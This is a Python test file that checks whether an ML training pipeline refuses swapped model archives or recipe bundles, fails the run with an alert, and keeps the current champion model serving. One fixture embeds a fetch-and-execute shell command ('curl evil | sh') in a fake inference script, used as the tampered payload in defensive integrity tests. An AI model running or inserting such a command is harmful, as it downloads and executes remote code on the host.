"""Issue 18, F1/F2 through the real pipelines (moto's ASL engine): a replaced model archive or recipe bundle is
refused, the run FAILS with an alert email (NotifyFailure), and the champion keeps serving."""

from __future__ import annotations

import json
from typing import Any

import pytest

from challenger_core import artifacts
from challenger_core.adapters.sagemaker import TrainingStatus
from challenger_core.models import ModelStatus, NotificationKind, RunStatus
from tests.support.emails import email_of, sent
from tests.support.fake_sagemaker import evaluation, tar_gz
from tests.unit.statemachines.conftest import Cloud
from tests.unit.statemachines.test_training_pipeline import TEST, TRAIN_V1, TRAIN_V2, config_of, first_model_live

SOMEONES_CODE = tar_gz({"model.npz": b"fake", "code/inference.py": b"import os; os.system('curl evil | sh')"})


def artifact_bucket(cloud: Cloud) -> str:
    return cloud.template.ref("ArtifactBucket")


def assert_refused_and_champion_serving(cloud: Cloud, execution: dict[str, Any], error: str) -> None:
    assert execution["status"] == "FAILED"
    cause = json.loads(execution["cause"])
    assert cause["errorType"] == "ArtifactIntegrityError"
    assert error in cause["errorMessage"]
    [run] = [r for r in cloud.registry.list_runs() if r.version != 1]
    assert run.status is RunStatus.FAILED
    assert error in email_of(sent(cloud), NotificationKind.FAILED).body
    assert cloud.sagemaker.serving_config() == config_of(cloud, 1)
    assert cloud.registry.get_champion().version == 1  # type: ignore[union-attr]


def test_an_archive_swapped_before_registration_fails_the_run_and_the_champion_keeps_serving(
    cloud: Cloud, monkeypatch: pytest.MonkeyPatch
) -> None:
    """#57-58: the archive is replaced between the job's end and RegisterCandidate."""
    first_model_live(cloud)
    completed = cloud.sagemaker.training_status

    def swap_after_the_job(job_name: str) -> TrainingStatus:
        status = completed(job_name)
        if status.status == "Completed" and status.model_data_url:
            key = status.model_data_url.split("/", 3)[3]
            cloud.s3.put_object(Bucket=artifact_bucket(cloud), Key=key, Body=SOMEONES_CODE)
        return status

    monkeypatch.setattr(cloud.sagemaker, "training_status", swap_after_the_job)
    cloud.sagemaker.training_results = [evaluation(0.95)]

    execution = cloud.run("reviews", TRAIN_V2, TEST)

    assert_refused_and_champion_serving(cloud, execution, "is not what the training job produced")
    assert cloud.registry.get_model(2).status is ModelStatus.FAILED
    assert len(cloud.executions("DeploymentPipeline")) == 1  # the champion's own, nothing after it


def test_a_retrain_with_a_replaced_champion_archive_fails_before_the_champions_code_runs(cloud: Cloud) -> None:
    """#61: the job gets the pinned copy and its registered digest; the kit checks it before extracting anything
    (recipes/kit: verify_champion; the fake job does the same), so the job fails and so does the run."""
    first_model_live(cloud)
    champion = cloud.registry.get_model(1)
    pinned = artifacts.pinned_model_url(artifact_bucket(cloud), champion).split("/", 3)[3]
    cloud.s3.put_object(Bucket=artifact_bucket(cloud), Key=pinned, Body=SOMEONES_CODE)
    cloud.sagemaker.training_results = [evaluation(0.95)]

    execution = cloud.run("reviews", TRAIN_V2, TEST)

    assert execution["status"] == "FAILED"
    assert "not the registered" in json.loads(execution["cause"])["errorMessage"]
    assert any(call.startswith("ChampionRefused") for call in cloud.sagemaker.calls)
    assert "not the registered" in email_of(sent(cloud), NotificationKind.FAILED).body
    assert cloud.sagemaker.serving_config() == config_of(cloud, 1)
    assert cloud.registry.get_champion().version == 1  # type: ignore[union-attr]


def test_a_replaced_recipe_bundle_fails_the_run_before_a_training_job_starts(cloud: Cloud) -> None:
    """#63-64: the bundle every later job would run is replaced; StartTraining refuses it."""
    first_model_live(cloud)
    record = cloud.s3.get_object(Bucket=artifact_bucket(cloud), Key="recipes/sentiment/bundle.json")["Body"].read()
    key = json.loads(record)["key"]
    cloud.s3.put_object(Bucket=artifact_bucket(cloud), Key=key, Body=tar_gz({"train.py": b"backdoor()"}))
    jobs_before = set(cloud.sagemaker.jobs)

    execution = cloud.run("reviews", TRAIN_V2, TEST)

    assert_refused_and_champion_serving(cloud, execution, "refusing to train: the recipe bundle")
    assert set(cloud.sagemaker.jobs) == jobs_before


def test_the_first_model_is_served_from_its_pinned_copy(cloud: Cloud) -> None:
    cloud.sagemaker.training_results = [evaluation(0.88)]
    assert cloud.run("reviews", TRAIN_V1, TEST)["status"] == "SUCCEEDED"
    model = cloud.registry.get_model(1)
    assert model.artifact_version_id  # the version RegisterCandidate hashed
    assert set(cloud.sagemaker.models.values()) == {artifacts.pinned_model_url(artifact_bucket(cloud), model)}
